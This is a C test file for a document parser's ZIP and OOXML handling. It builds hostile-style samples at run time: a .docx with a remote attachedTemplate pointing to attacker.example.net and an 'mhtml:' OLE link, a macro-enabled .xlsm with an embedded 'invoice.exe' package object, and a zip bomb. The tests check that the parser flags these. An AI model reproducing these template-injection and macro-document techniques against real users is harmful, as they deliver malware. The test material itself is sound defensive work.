/*
 * test_ooxml.c - unit tests for parsers/zipread.c and parsers/ooxml.c.
 *
 * Documents are made at run time: a .docx with an external
 * attachedTemplate relationship (remote template injection), an external
 * hyperlink and an "mhtml:" OLE link; an .xlsm whose xl/vbaProject.bin is
 * built by the compound file writer of test_ole.c (included with
 * TEST_OLE_NO_MAIN) with an embedded OLE object and an Excel 4.0 macro
 * sheet; a zip bomb (30 MB parts deflated to kilobytes) and a package of
 * 17,000 entries.  These are written with Python's zipfile module
 * (/usr/bin/python3, standard library only) from a script in this file.
 * ZIP structure cases (ZIP64 end records, data prepended to the archive,
 * encrypted and unsupported members, CRC errors, bad offsets) use a small
 * stored-only writer here.  Then truncations and random mutations.
 *
 * `test_ooxml --write-seeds DIR` writes the fuzz_ooxml seeds to DIR/ooxml.
 *
 * SPDX-License-Identifier: MIT
 */
#define TEST_OLE_NO_MAIN
#pragma GCC diagnostic ignored "-Wunused-function"
#include "test_ole.c"

#include "zipread.h"

#include <unistd.h>
#include <zlib.h>

#define PY "/usr/bin/python3"

static char tmpdir[256];

/* ------------------------------------------------------------------ */
/* documents made with Python's zipfile                                */

static const char *py_script =
"import sys, zipfile\n"
"out, vba, emb = sys.argv[1], open(sys.argv[2], 'rb').read(), open(sys.argv[3], 'rb').read()\n"
"R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'\n"
"P = 'http://schemas.openxmlformats.org/package/2006/relationships'\n"
"HDR = '<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\\r\\n'\n"
"def ct(over, defaults=''):\n"
"    s = HDR + '<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">'\n"
"    s += '<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>'\n"
"    s += '<Default Extension=\"xml\" ContentType=\"application/xml\"/>' + defaults\n"
"    for p, t in over:\n"
"        s += '<Override PartName=\"%s\" ContentType=\"%s\"/>' % (p, t)\n"
"    return s + '</Types>'\n"
"def rels(items):\n"
"    s = HDR + '<Relationships xmlns=\"' + P + '\">'\n"
"    for i, t, target, ext in items:\n"
"        s += '<Relationship Id=\"%s\" Type=\"%s\" Target=\"%s\"%s/>' % (i, t, target, ' TargetMode=\"External\"' if ext else '')\n"
"    return s + '</Relationships>'\n"
"core = HDR + ('<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" '\n"
"    'xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:dcterms=\"http://purl.org/dc/terms/\" '\n"
"    'xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\">'\n"
"    '<dc:title>Invoice &#8364;42</dc:title><dc:creator>Alice &amp; Bob</dc:creator>'\n"
"    '<cp:lastModifiedBy>Eve</cp:lastModifiedBy><cp:revision>3</cp:revision><dc:description/>'\n"
"    '<dcterms:created xsi:type=\"dcterms:W3CDTF\">2021-05-06T07:08:09Z</dcterms:created>'\n"
"    '<dcterms:modified xsi:type=\"dcterms:W3CDTF\">2021-05-07T00:00:00Z</dcterms:modified>'\n"
"    '</cp:coreProperties>')\n"
"def app(name):\n"
"    return HDR + ('<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties\" '\n"
"        'xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\">'\n"
"        '<Template>Normal.dotm</Template><TotalTime>1</TotalTime><Application>' + name + '</Application>'\n"
"        '<DocSecurity>0</DocSecurity><HeadingPairs><vt:vector size=\"2\" baseType=\"variant\"><vt:variant>'\n"
"        '<vt:lpstr>Title</vt:lpstr></vt:variant><vt:variant><vt:i4>1</vt:i4></vt:variant></vt:vector>'\n"
"        '</HeadingPairs><!-- <Company>not me</Company> --><Company><![CDATA[A<B]]></Company>'\n"
"        '<AppVersion>16.0000</AppVersion></Properties>')\n"
"pkg = rels([('rId1', R + '/officeDocument', 'word/document.xml', 0),\n"
"            ('rId2', P + '/metadata/core-properties', 'docProps/core.xml', 0),\n"
"            ('rId3', R + '/extended-properties', 'docProps/app.xml', 0)])\n"
"D = zipfile.ZIP_DEFLATED\n"
"class Z(zipfile.ZipFile):\n"
"    def writestr(self, name, data):\n"
"        zi = zipfile.ZipInfo(name, (2020, 1, 2, 3, 4, 6))\n"
"        zi.compress_type = self.compression\n"
"        super().writestr(zi, data)\n"
"with Z(out + '/template.docx', 'w', D) as z:\n"
"    z.writestr('[Content_Types].xml', ct([('/word/document.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),\n"
"        ('/word/settings.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml'),\n"
"        ('/docProps/core.xml', 'application/vnd.openxmlformats-package.core-properties+xml'),\n"
"        ('/docProps/app.xml', 'application/vnd.openxmlformats-officedocument.extended-properties+xml')]))\n"
"    z.writestr('_rels/.rels', pkg)\n"
"    z.writestr('word/document.xml', HDR + '<w:document xmlns:w=\"x\"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>')\n"
"    z.writestr('word/_rels/document.xml.rels', rels([('rId1', R + '/settings', 'settings.xml', 0),\n"
"        ('rId5', R + '/hyperlink', 'https://www.example.org/page?x=1&amp;y=2', 1),\n"
"        ('rId6', R + '/oleObject', 'mhtml:http://cve.example.com/x.html!x-usc:http://cve.example.com/x.html', 1)]))\n"
"    z.writestr('word/settings.xml', HDR + '<w:settings xmlns:w=\"x\" xmlns:r=\"y\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>')\n"
"    z.writestr('word/_rels/settings.xml.rels', rels([('rId1', R + '/attachedTemplate', 'http://attacker.example.net/tpl.dotm', 1)]))\n"
"    z.writestr('docProps/core.xml', core)\n"
"    z.writestr('docProps/app.xml', app('Microsoft Office Word'))\n"
"with Z(out + '/macro.xlsm', 'w', D) as z:\n"
"    z.writestr('[Content_Types].xml', ct([('/xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),\n"
"        ('/xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml')],\n"
"        '<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>'))\n"
"    z.writestr('_rels/.rels', rels([('rId1', R + '/officeDocument', '/xl/workbook.xml', 0)]))\n"
"    z.writestr('xl/workbook.xml', HDR + '<workbook/>')\n"
"    z.writestr('xl/_rels/workbook.xml.rels', rels([('rId9', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin', 0)]))\n"
"    z.writestr('xl/vbaProject.bin', vba)\n"
"    z.writestr('xl/embeddings/oleObject1.bin', emb)\n"
"    z.writestr('xl/macrosheets/sheet1.xml', HDR + '<xm:macrosheet xmlns:xm=\"x\"/>')\n"
"    z.writestr('docProps/app.xml', app('Microsoft Excel'))\n"
"big = ' ' * (30 << 20)\n"
"with Z(out + '/bomb.docx', 'w', D) as z:\n"
"    z.writestr('[Content_Types].xml', ct([]))\n"
"    z.writestr('docProps/core.xml', '<cp:coreProperties><dc:creator>' + big + '</dc:creator></cp:coreProperties>')\n"
"    z.writestr('word/embeddings/oleObject1.bin', big)\n"
"with Z(out + '/many.docx', 'w', zipfile.ZIP_STORED) as z:\n"
"    z.writestr('[Content_Types].xml', ct([]))\n"
"    for i in range(17000):\n"
"        z.writestr('p/%d' % i, '')\n"
"with Z(out + '/plain.zip', 'w', D) as z:\n"
"    z.writestr('readme.txt', 'not a document')\n";

/* The embedded OLE object: a package holding a small executable. */
static void
embedded_ole(struct ow *w)
{
	struct pn_buf b = PN_BUF_INIT;

	ow_init(w, 9);
	ole10native_stream(&b, "invoice.exe", "MZ\x90\x00payload", 11);
	ow_add(w, "\001Ole10Native", b.p, b.len);
	pn_buf_release(&b);
	clsid_parse("0003000c-0000-0000-c000-000000000046", w->e[0].clsid);
	ow_build(w);
}

static void
vba_bin(struct ow *w)
{
	struct vmod m[2] = { { "ThisDocument", NULL, 2, 1, 0 }, { "Module1", NULL, 1, 0, 37 } };

	m[0].src = src_doc;
	m[1].src = src_mod;
	ow_init(w, 9);
	vba_project(w, "VBA", m, 2);
	ow_add(w, "PROJECT", "ID=\"{1}\"\r\nModule=Module1\r\n", 27);
	ow_build(w);
}

static int
make_docs(const char *dir)
{
	char path[512], cmd[2048];
	struct ow w;
	int rc;

	vba_bin(&w);
	snprintf(path, sizeof(path), "%s/vbaProject.bin", dir);
	rc = write_file(path, w.buf, w.len);
	ow_free(&w);
	embedded_ole(&w);
	snprintf(path, sizeof(path), "%s/oleObject1.bin", dir);
	rc |= write_file(path, w.buf, w.len);
	ow_free(&w);
	snprintf(path, sizeof(path), "%s/make.py", dir);
	rc |= write_file(path, py_script, strlen(py_script));
	if (rc != 0)
		return -1;
	snprintf(cmd, sizeof(cmd), PY " %s/make.py %s %s/vbaProject.bin %s/oleObject1.bin", dir, dir, dir, dir);
	return system(cmd) == 0 ? 0 : -1;
}

static uint8_t *
doc(const char *name, size_t *n)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	return read_file(path, n);
}

/* ------------------------------------------------------------------ */
/* a stored-only ZIP writer for structure cases                        */

struct zmem {
	const char *name;
	const char *data;
};

/*
 * Stored members after `prefix` bytes of junk; adjusted: offsets count
 * from the start of the file (as "zip -A" leaves them) instead of from
 * the start of the archive; zip64: ZIP64 end records.
 */
static uint8_t *
zip_stored(const struct zmem *m, int n, size_t prefix, int adjusted, int zip64, size_t *outlen)
{
	struct pn_buf b = PN_BUF_INIT, cd = PN_BUF_INIT;
	uint32_t offs[16];
	size_t cdoff, z64;
	int i;

	for (i = 0; i < (int)prefix; i++)
		pn_buf_putc(&b, 'J');
	for (i = 0; i < n; i++) {
		size_t dl = strlen(m[i].data), nl = strlen(m[i].name);
		uint32_t crc = (uint32_t)crc32(0, (const Bytef *)m[i].data, (uInt)dl);
		offs[i] = (uint32_t)(b.len - (adjusted ? 0 : prefix));
		b_u32(&b, 0x04034b50); b_u16(&b, 20); b_u16(&b, 0); b_u16(&b, 0); b_u16(&b, 0); b_u16(&b, 0x21);
		b_u32(&b, crc); b_u32(&b, (uint32_t)dl); b_u32(&b, (uint32_t)dl); b_u16(&b, (uint16_t)nl); b_u16(&b, 0);
		pn_buf_append(&b, m[i].name, nl);
		pn_buf_append(&b, m[i].data, dl);
		b_u32(&cd, 0x02014b50); b_u16(&cd, 20); b_u16(&cd, 20); b_u16(&cd, 0); b_u16(&cd, 0); b_u16(&cd, 0);
		b_u16(&cd, 0x21); b_u32(&cd, crc); b_u32(&cd, (uint32_t)dl); b_u32(&cd, (uint32_t)dl);
		b_u16(&cd, (uint16_t)nl); b_u16(&cd, 0); b_u16(&cd, 0); b_u16(&cd, 0); b_u16(&cd, 0); b_u32(&cd, 0);
		b_u32(&cd, offs[i]);
		pn_buf_append(&cd, m[i].name, nl);
	}
	cdoff = b.len - (adjusted ? 0 : prefix);
	pn_buf_append(&b, cd.p, cd.len);
	if (zip64) {
		z64 = b.len - (adjusted ? 0 : prefix);
		b_u32(&b, 0x06064b50); b_u32(&b, 44); b_u32(&b, 0); b_u16(&b, 45); b_u16(&b, 45);
		b_u32(&b, 0); b_u32(&b, 0);
		b_u32(&b, (uint32_t)n); b_u32(&b, 0); b_u32(&b, (uint32_t)n); b_u32(&b, 0);
		b_u32(&b, (uint32_t)cd.len); b_u32(&b, 0); b_u32(&b, (uint32_t)cdoff); b_u32(&b, 0);
		b_u32(&b, 0x07064b50); b_u32(&b, 0); b_u32(&b, (uint32_t)(z64 + (adjusted ? 0 : prefix))); b_u32(&b, 0); b_u32(&b, 1);
	}
	b_u32(&b, 0x06054b50); b_u16(&b, 0); b_u16(&b, 0);
	b_u16(&b, zip64 ? 0xFFFF : (uint16_t)n); b_u16(&b, zip64 ? 0xFFFF : (uint16_t)n);
	b_u32(&b, zip64 ? 0xFFFFFFFFu : (uint32_t)cd.len); b_u32(&b, zip64 ? 0xFFFFFFFFu : (uint32_t)cdoff);
	b_u16(&b, 0);
	pn_buf_release(&cd);
	return (uint8_t *)pn_buf_steal(&b, outlen);
}

/* ------------------------------------------------------------------ */
/* tests: zipread                                                      */

static int
zip_read_str(struct pn_zip *z, const char *name, const char *want)
{
	long i = pn_zip_find(z, name);
	uint8_t *d;
	size_t n;
	int rc, good;

	if (i < 0)
		return 0;
	rc = pn_zip_read(z, (size_t)i, 1 << 20, &d, &n);
	good = rc == PN_OK && n == strlen(want) && (n == 0 || memcmp(d, want, n) == 0);
	free(d);
	return good;
}

static void
test_zipread(void)
{
	static const struct zmem m[] = { { "[Content_Types].xml", "<Types/>" }, { "word/a.xml", "<a>x</a>" },
	    { "b", "" } };
	struct pn_zip z;
	uint8_t *zb, *d;
	size_t zn, n;
	int rc, variant;

	for (variant = 0; variant < 4; variant++) {
		/* plain, ZIP64, prepended junk with and without adjusted offsets */
		size_t prefix = variant >= 2 ? 333 : 0;
		zb = zip_stored(m, 3, prefix, variant == 3, variant == 1, &zn);
		rc = pn_zip_open(zb, zn, &z);
		ok(rc == PN_OK && z.count == 3 && zip_read_str(&z, "/WORD/A.XML", "<a>x</a>") &&
		    zip_read_str(&z, "b", ""), "stored zip variant %d: open, find, read", variant);
		if (variant == 2)
			is_int(z.shift, 333, "prepended data: shift found");
		pn_zip_close(&z);
		free(zb);
	}
	zb = zip_stored(m, 3, 0, 0, 0, &zn);
	/* cap */
	pn_zip_open(zb, zn, &z);
	rc = pn_zip_read(&z, 1, 3, &d, &n);
	ok(rc == PN_ELIMIT && n == 3 && memcmp(d, "<a>", 3) == 0, "stored read capped: ELIMIT, 3 bytes");
	free(d);
	pn_zip_close(&z);
	/* encrypted flag, unsupported method, CRC, bad local offset: in the central directory */
	{
		size_t cd = zn - 22 - (46 * 3 + 19 + 10 + 1);
		uint8_t *e1 = zb + cd + 46 + 19;    /* second central entry */
		pn_zip_open(zb, zn, &z);
		ok(pn_zip_find(&z, "word/a.xml") == 1, "entry order");
		pn_zip_close(&z);
		if (pn_le32(e1) != 0x02014b50) {
			ok(0, "central entry located");
		} else {
			uint8_t save[46];
			memcpy(save, e1, 46);
			e1[8] |= 1;
			pn_zip_open(zb, zn, &z);
			ok(pn_zip_read(&z, 1, 100, &d, &n) == PN_EPERM && d == NULL, "encrypted member: EPERM");
			pn_zip_close(&z);
			memcpy(e1, save, 46);
			put16(e1 + 10, 14);
			pn_zip_open(zb, zn, &z);
			ok(pn_zip_read(&z, 1, 100, &d, &n) == PN_EINVAL, "LZMA member: EINVAL");
			pn_zip_close(&z);
			memcpy(e1, save, 46);
			e1[16] ^= 1;
			pn_zip_open(zb, zn, &z);
			rc = pn_zip_read(&z, 1, 100, &d, &n);
			ok(rc == PN_EFORMAT && n == 8, "CRC mismatch: EFORMAT, data returned");
			free(d);
			pn_zip_close(&z);
			memcpy(e1, save, 46);
			put32(e1 + 42, 0x7FFFFFFF);
			pn_zip_open(zb, zn, &z);
			ok(pn_zip_read(&z, 1, 100, &d, &n) == PN_EFORMAT, "local header outside the file: EFORMAT");
			pn_zip_close(&z);
			memcpy(e1, save, 46);
			put16(e1 + 28, 0xFFFF);         /* name runs past the directory */
			rc = pn_zip_open(zb, zn, &z);
			ok(rc == PN_EFORMAT && z.count == 1, "damaged central directory: first entry kept");
			pn_zip_close(&z);
			memcpy(e1, save, 46);
		}
	}
	/* truncations of the archive never crash */
	for (n = 0; n < zn; n++) {
		pn_zip_open(zb, n, &z);
		pn_zip_close(&z);
	}
	ok(1, "every truncation opens or fails cleanly");
	ok(pn_zip_open(NULL, 0, &z) == PN_EFORMAT, "empty input");
	pn_zip_close(&z);
	free(zb);
}

static void
test_zip_bomb(void)
{
	struct pn_zip z;
	uint8_t *d, *zb;
	size_t n, zn, k;
	long i;
	int rc, limited = 0;
	int64_t t0;

	zb = doc("bomb.docx", &zn);
	ok(zb != NULL && zn < 1 << 20, "bomb.docx is small (%zu bytes)", zn);
	if (zb == NULL)
		return;
	pn_zip_open(zb, zn, &z);
	i = pn_zip_find(&z, "word/embeddings/oleObject1.bin");
	t0 = pn_mono_ms();
	rc = pn_zip_read(&z, (size_t)i, 64u << 20, &d, &n);
	ok(rc == PN_ELIMIT && n < 8u << 20, "30 MB member stops at the ratio limit (%zu bytes out)", n);
	free(d);
	/* The handle's total budget: read it again and again. */
	for (k = 0; k < 200; k++) {
		rc = pn_zip_read(&z, (size_t)i, 64u << 20, &d, &n);
		free(d);
		if (rc == PN_ELIMIT && n == 0) {
			limited = 1;
			break;
		}
	}
	ok(limited && z.inflated <= PN_ZIP_MAX_TOTAL, "total inflated bytes stop at PN_ZIP_MAX_TOTAL (%zu reads)", k);
	ok(pn_mono_ms() - t0 < 20000, "bounded time");
	pn_zip_close(&z);
	free(zb);
}

/* ------------------------------------------------------------------ */
/* tests: the parser                                                   */

static void
test_template_docx(void)
{
	struct res r;
	uint8_t *d;
	size_t n;
	struct json_object *ext;
	size_t i, found = 0;

	d = doc("template.docx", &n);
	ok(d != NULL, "template.docx made by Python zipfile");
	if (d == NULL)
		return;
	run_parser(&pn_parser_ooxml, d, n, &r);
	ok(r.rc == PN_OK, "docx parses cleanly");
	if (json_object_array_length(r.notes))
		diag("notes: %s", json_object_to_json_string(r.notes));
	is_str(jstr(r.attrs, "openxml_info.file_type"), "docx", "file_type");
	is_str(jstr(r.attrs, "openxml_info.main_content_type"),
	    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "main content type");
	ok(jhas(jget(r.attrs, "openxml_info.content_types"), "rels") &&
	    jhas(jget(r.attrs, "openxml_info.content_types"), "xml"), "content_types: Default extensions");
	ok(jhas(jget(r.attrs, "openxml_info.rels"), "word/document.xml") &&
	    jhas(jget(r.attrs, "openxml_info.rels"), "docProps/core.xml"), "rels: package targets");
	is_str(jstr(r.attrs, "openxml_info.docprops_core.dc:creator"), "Alice & Bob", "dc:creator, entity decoded");
	is_str(jstr(r.attrs, "openxml_info.docprops_core.dc:title"), "Invoice \xe2\x82\xac" "42", "dc:title, char reference");
	is_str(jstr(r.attrs, "openxml_info.docprops_core.cp:lastModifiedBy"), "Eve", "cp:lastModifiedBy");
	is_str(jstr(r.attrs, "openxml_info.docprops_core.dcterms:created"), "2021-05-06T07:08:09Z", "dcterms:created");
	ok(jget(r.attrs, "openxml_info.docprops_core.dc:description") == NULL, "empty elements left out");
	is_str(jstr(r.attrs, "openxml_info.docprops_app.Application"), "Microsoft Office Word", "Application");
	is_str(jstr(r.attrs, "openxml_info.docprops_app.AppVersion"), "16.0000", "AppVersion");
	is_str(jstr(r.attrs, "openxml_info.docprops_app.vt:lpstr"), "Title", "nested leaves flattened (as VT)");
	is_str(jstr(r.attrs, "openxml_info.docprops_app.Company"), "A<B", "CDATA kept, comment skipped");
	ext = jget(r.attrs, "openxml_info.external_relationships");
	for (i = 0; ext && i < json_object_array_length(ext); i++) {
		struct json_object *e = json_object_array_get_idx(ext, i);
		if (strcmp(jstr(e, "type"), "attachedTemplate") == 0 &&
		    strcmp(jstr(e, "source"), "word/settings.xml") == 0 &&
		    strcmp(jstr(e, "target"), "http://attacker.example.net/tpl.dotm") == 0)
			found++;
	}
	ok(found == 1, "external attachedTemplate relationship listed with its source part");
	is_int(ext ? (int64_t)json_object_array_length(ext) : -1, 3, "three external relationships");
	ok(jhas(r.edges, "http://attacker.example.net/tpl.dotm"), "template URL: embedded_urls edge");
	ok(jhas(r.edges, "https://www.example.org/page?x=1&y=2"), "hyperlink edge, &amp; decoded");
	ok(jhas(r.edges, "http://cve.example.com/x.html"), "URL inside an mhtml: target");
	ok(!jhas(r.tags, "macros") && jget(r.attrs, "openxml_info.ole") == NULL, "no macros");
	ok(json_object_array_length(jget(r.attrs, "openxml_info.parts")) == 8, "eight parts listed");
	res_free(&r);
	free(d);
}

static void
test_xlsm(void)
{
	struct res r;
	uint8_t *d;
	size_t n;

	d = doc("macro.xlsm", &n);
	ok(d != NULL, "macro.xlsm made by Python zipfile");
	if (d == NULL)
		return;
	run_parser(&pn_parser_ooxml, d, n, &r);
	ok(r.rc == PN_OK, "xlsm parses cleanly");
	if (json_object_array_length(r.notes))
		diag("notes: %s", json_object_to_json_string(r.notes));
	is_str(jstr(r.attrs, "openxml_info.file_type"), "xlsx", "file_type (VT family name)");
	is_int(jint(r.attrs, "openxml_info.ole.num_macros"), 2, "two macros from xl/vbaProject.bin");
	is_str(jstr(r.attrs, "openxml_info.ole.macros.0.subfilename"), "xl/vbaProject.bin", "subfilename");
	is_str(jstr(r.attrs, "openxml_info.ole.macros.0.stream_path"), "VBA/ThisDocument", "stream_path");
	ok(strstr(jstr(r.attrs, "openxml_info.ole.macros.1.vba_code") ? jstr(r.attrs, "openxml_info.ole.macros.1.vba_code") : "",
	    "CreateObject(\"WScript.Shell\")") != NULL, "module source");
	ok(jhas(r.tags, "macros") && jhas(r.tags, "auto-open"), "tags macros, auto-open");
	ok(jhas(r.edges, "https://dl.example.org/a?b=1"), "URL from the macro source");
	is_str(jstr(r.attrs, "openxml_info.embeddings.0.name"), "xl/embeddings/oleObject1.bin", "embedded object listed");
	is_str(jstr(r.attrs, "openxml_info.embeddings.0.ole.ole10native.0.label"), "invoice.exe", "its Ole10Native label");
	is_str(jstr(r.attrs, "openxml_info.embeddings.0.ole.clsid_literal"), "OLE Package Object", "its CLSID");
	ok(jhas(jget(r.attrs, "openxml_info.macrosheets"), "xl/macrosheets/sheet1.xml"), "Excel 4.0 macro sheet listed");
	is_str(jstr(r.attrs, "openxml_info.docprops_app.Application"), "Microsoft Excel", "Application");
	res_free(&r);
	free(d);
}

static void
test_limits(void)
{
	struct res r;
	uint8_t *d;
	size_t n;
	int64_t t0;

	d = doc("bomb.docx", &n);
	if (d) {
		t0 = pn_mono_ms();
		run_parser(&pn_parser_ooxml, d, n, &r);
		ok(r.rc == PN_ELIMIT && notes_match(&r, "ratio limit"), "zip bomb: ELIMIT with a note");
		ok(pn_mono_ms() - t0 < 10000, "zip bomb: bounded time");
		ok(jstr(r.attrs, "openxml_info.docprops_core.dc:creator") == NULL ||
		    strlen(jstr(r.attrs, "openxml_info.docprops_core.dc:creator")) <= 1024 * 3,
		    "zip bomb: property value capped");
		res_free(&r);
		free(d);
	}
	d = doc("many.docx", &n);
	ok(d != NULL, "many.docx made");
	if (d) {
		run_parser(&pn_parser_ooxml, d, n, &r);
		ok(r.rc == PN_ELIMIT && notes_match(&r, "zip entries"), "17000 entries: ELIMIT, note");
		is_int(json_object_array_length(jget(r.attrs, "openxml_info.parts")), 256, "parts list capped");
		ok(json_object_get_boolean(jget(r.attrs, "openxml_info.parts_truncated")), "parts_truncated");
		res_free(&r);
		free(d);
	}
	d = doc("plain.zip", &n);
	if (d) {
		run_parser(&pn_parser_ooxml, d, n, &r);
		ok(r.rc == -100, "a zip without [Content_Types].xml: no bid");
		res_free(&r);
		free(d);
	}
}

static void
test_robustness(void)
{
	struct res r;
	uint8_t *d, *m;
	size_t n, k, cut, bad = 0, runs = 0;

	d = doc("macro.xlsm", &n);
	if (d == NULL)
		return;
	for (cut = 0; cut < n; cut += 1 + cut / 16) {
		run_parser(&pn_parser_ooxml, d, cut, &r);
		if (r.rc != -100 && !res_valid(&r))
			bad++;
		runs += r.rc != -100;
		res_free(&r);
	}
	ok(bad == 0, "truncations of the xlsm: valid results (%zu parsed)", runs);
	m = pn_xmalloc(n);
	for (k = 0, bad = 0; k < 1500; k++) {
		size_t j, flips = 1 + rng() % 6;
		memcpy(m, d, n);
		for (j = 0; j < flips; j++) {
			/* bias towards the central directory and local headers */
			size_t at = rng() % 2 ? n - 1 - rng() % PN_MIN(n, (size_t)2000) : rng() % n;
			m[at] = (uint8_t)(rng() % 3 == 0 ? 0xFF : rng());
		}
		run_parser(&pn_parser_ooxml, m, n, &r);
		if (r.rc != -100 && !res_valid(&r))
			bad++;
		res_free(&r);
	}
	ok(bad == 0, "1500 mutated xlsm files: valid results");
	free(m);
	free(d);
}

static int
cleanup_dir(const char *dir)
{
	char cmd[600];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
	return system(cmd);
}

/* fuzz_ooxml seeds: the small documents and stored structure variants. */
static int
write_seeds(const char *dir)
{
	static const struct zmem m[] = { { "[Content_Types].xml",
	    "<Types><Default Extension=\"xml\" ContentType=\"application/xml\"/>"
	    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>" },
	    { "_rels/.rels", "<Relationships><Relationship Id=\"r\" Type=\"x/officeDocument\" Target=\"word/document.xml\"/></Relationships>" },
	    { "word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"rId1\" Type=\"x/attachedTemplate\" "
	      "Target=\"http://a.example/t.dotm\" TargetMode=\"External\"/></Relationships>" },
	    { "docProps/core.xml", "<cp:coreProperties><dc:creator>a &amp; b</dc:creator><![CDATA[x]]><!-- c --></cp:coreProperties>" } };
	const char *names[] = { "template.docx", "macro.xlsm" };
	uint8_t *d;
	size_t n, i;
	int rc = 0;

	for (i = 0; i < PN_ARRAY_LEN(names); i++) {
		d = doc(names[i], &n);
		if (d == NULL)
			return 1;
		rc |= seed(dir, "ooxml", names[i], d, n);
		free(d);
	}
	d = zip_stored(m, 4, 0, 0, 1, &n);
	rc |= seed(dir, "ooxml", "stored-zip64.docx", d, n);
	free(d);
	d = zip_stored(m, 4, 40, 0, 0, &n);
	rc |= seed(dir, "ooxml", "prefixed.docx", d, n);
	free(d);
	return rc;
}

int
main(int argc, char **argv)
{
	const char *t = getenv("TMPDIR");
	int rc;

	snprintf(tmpdir, sizeof(tmpdir), "%s/test_ooxml.XXXXXX", t && *t ? t : "/tmp");
	if (mkdtemp(tmpdir) == NULL) {
		perror("mkdtemp");
		return 1;
	}
	rc = make_docs(tmpdir);
	if (argc == 3 && strcmp(argv[1], "--write-seeds") == 0) {
		rc = rc == 0 ? write_seeds(argv[2]) : 1;
		cleanup_dir(tmpdir);
		return rc;
	}
	ok(rc == 0, "documents made with " PY " (zipfile)");
	test_zipread();
	test_zip_bomb();
	test_template_docx();
	test_xlsm();
	test_limits();
	test_robustness();
	cleanup_dir(tmpdir);
	return done_testing();
}
